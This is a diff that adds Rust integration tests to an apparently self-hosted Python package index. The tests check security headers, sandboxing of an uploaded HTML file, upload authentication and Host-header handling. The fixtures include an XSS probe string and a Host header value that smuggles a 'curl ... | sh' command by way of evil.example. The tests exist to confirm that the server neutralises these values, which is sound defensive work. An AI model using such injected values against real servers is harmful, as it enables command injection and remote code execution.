@@ -154,3 +154,79 @@ async fn reuploads_are_idempotent_and_replacements_refused() {
     assert_eq!(r.bytes().await.unwrap().as_ref(), spec.build().as_slice(), "the original bytes must survive");
     server.stop().await;
 }
+
+/// One raw request with our own `Host` header; the response head and body as text.
+async fn with_host(server: &TestServer, path: &str, host: &str) -> String {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let addr = server.url.trim_start_matches("http://").trim_end_matches('/');
+    let mut stream = tokio::net::TcpStream::connect(addr).await.unwrap();
+    let request = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
+    stream.write_all(request.as_bytes()).await.unwrap();
+    let mut response = Vec::new();
+    tokio::time::timeout(std::time::Duration::from_secs(30), stream.read_to_end(&mut response))
+        .await
+        .expect("a response in time")
+        .unwrap();
+    String::from_utf8_lossy(&response).into_owned()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn responses_are_hardened_for_browsers() {
+    let server = server_with_foo().await;
+    let run = ROOT.split('/').next().unwrap();
+    for path in
+        [String::new(), "healthz".into(), format!("{run}/"), format!("{ROOT}simple/foo-bar-baz/"), "nope/".into()]
+    {
+        let r = server.client.get(format!("{}{path}", server.url)).send().await.unwrap();
+        assert_eq!(header(&r, "x-content-type-options"), "nosniff", "/{path}");
+        let csp = header(&r, "content-security-policy");
+        assert!(csp.contains("frame-ancestors 'none'") && csp.contains("default-src 'none'"), "/{path}: {csp}");
+        assert!(!csp.contains("script-src"), "no scripts on /{path}");
+    }
+    // A document CI put into the store next to the generated pages is a download, sandboxed.
+    quarry_tests::plant(&server.store_dir(), &format!("{run}/logs/report.html"), b"<script>alert(1)</script>");
+    let r = server.client.get(format!("{}{run}/logs/report.html", server.url)).send().await.unwrap();
+    assert_eq!(r.status(), 200);
+    assert_eq!(header(&r, "content-type"), "application/octet-stream");
+    assert_eq!(header(&r, "content-disposition"), "attachment; filename*=UTF-8''report.html");
+    assert!(header(&r, "content-security-policy").contains("sandbox"));
+    let r = server.client.get(format!("{}{ROOT}index.html", server.url)).send().await.unwrap();
+    assert_eq!(header(&r, "content-type"), "text/html; charset=utf-8", "generated pages still render");
+    server.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_hostile_host_header_falls_back_to_the_served_address() {
+    let server = server_with_foo().await;
+    let run = ROOT.split('/').next().unwrap();
+    let served = server.url.trim_end_matches('/');
+    let page = with_host(&server, &format!("/{run}/"), "evil.example';curl${IFS}x|sh;'").await;
+    assert!(page.starts_with("HTTP/1.1 200"), "{page}");
+    assert!(!page.contains("evil.example") && !page.contains("curl"), "{page}");
+    assert!(page.contains(&format!("pip install --find-links {served}/{ROOT} foo-bar-baz")), "{page}");
+    let page = with_host(&server, &format!("/{run}/"), "quarry.internal:8080").await;
+    assert!(page.contains(&format!("pip install --find-links http://quarry.internal:8080/{ROOT} foo-bar-baz")));
+    server.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn uploads_take_bearer_tokens_in_any_case_and_never_basic() {
+    let server = TestServer::start().await;
+    let spec = WheelSpec::new("auth-case", "1.0");
+    let url = format!("{}{ROOT}{}", server.url, spec.filename());
+    let r = server.client.put(&url).basic_auth("__token__", Some(quarry_tests::TOKEN)).body(spec.build()).send().await;
+    let r = r.unwrap();
+    assert_eq!(r.status(), 401);
+    assert!(r.text().await.unwrap().contains("Basic credentials are accepted for reads only"));
+    assert_eq!(server.client.get(&url).send().await.unwrap().status(), 404, "nothing was stored");
+    let r = server
+        .client
+        .put(&url)
+        .header("authorization", format!("BEARER {}", quarry_tests::TOKEN))
+        .body(spec.build())
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
+    server.stop().await;
+}
